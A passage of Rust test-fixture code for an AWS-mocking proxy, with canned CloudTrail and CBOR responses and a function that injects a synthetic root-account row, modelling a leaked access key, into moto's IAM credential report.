            Canned::ok("application/cbor", vec![0xA0u8]).header("smithy-protocol", "rpc-v2-cbor"),
        ),
        (
            // CloudTrail event history with no console sign-in in the window.
            Match::action("cloudtrail", "LookupEvents"),
            Canned::ok("application/x-amz-json-1.1", r#"{"Events":[]}"#),
        ),
    ]
}

/// The principal of [`as_on_aws`]: a person's IAM Identity Center session.
pub const PRINCIPAL: &str =
    "arn:aws:sts::123456789012:assumed-role/AWSReservedSSO_SecurityAudit_5c2f7e8a9b1d3f46/taro";

/// moto's credential report with the `<root_account>` row AWS always puts first (moto
/// has none), for the account of [`leaked_root_key`]: no MFA, access key 1 active since
/// 2015 and used a day before the report, from sa-east-1, by EC2; the console password
/// last used three days before. For the proxy's `rewrite` of GetCredentialReport.
pub fn with_root_row_of_leaked_key(body: &[u8]) -> Vec<u8> {
    use base64::Engine as _;
    let xml = String::from_utf8_lossy(body).into_owned();
    let (Some(start), Some(end)) = (xml.find("<Content>"), xml.find("</Content>")) else {
        return body.to_vec();
    };
    let b64 = base64::engine::general_purpose::STANDARD;
    let csv = String::from_utf8(b64.decode(xml[start + 9..end].trim()).unwrap()).unwrap();
    let mut lines = csv.lines();
    let header = lines.next().unwrap();
    let day = |days_ago: i64| {
        (time::OffsetDateTime::now_utc() - time::Duration::days(days_ago))
            .replace_nanosecond(0)
            .unwrap()
            .format(&time::format_description::well_known::Rfc3339)
            .unwrap()
            .replace('Z', "+00:00")
    };
    let root: Vec<String> = header
        .split(',')
        .map(|column| match column {
            "user" => "<root_account>".into(),
            "arn" => format!("arn:aws:iam::{ACCOUNT}:root"),
            "user_creation_time" => "2014-09-01T03:12:45+00:00".into(),
            "password_enabled" | "password_last_changed" | "password_next_rotation" => {
                "not_supported".into()
            }
            "password_last_used" => day(3),
            "mfa_active" | "access_key_2_active" | "cert_1_active" | "cert_2_active" => {
                "false".into()
            }
            "access_key_1_active" => "true".into(),
            "access_key_1_last_rotated" => "2015-02-10T08:30:00+00:00".into(),
            "access_key_1_last_used_date" => day(1),
            "access_key_1_last_used_region" => "sa-east-1".into(),
            "access_key_1_last_used_service" => "ec2".into(),
            _ => "N/A".into(),
        })
        .collect();
    let mut out = vec![header.to_string(), root.join(",")];
    out.extend(lines.map(str::to_string));
    let content = b64.encode(out.join("\n") + "\n");
    format!("{}<Content>{content}{}", &xml[..start], &xml[end..]).into_bytes()
}
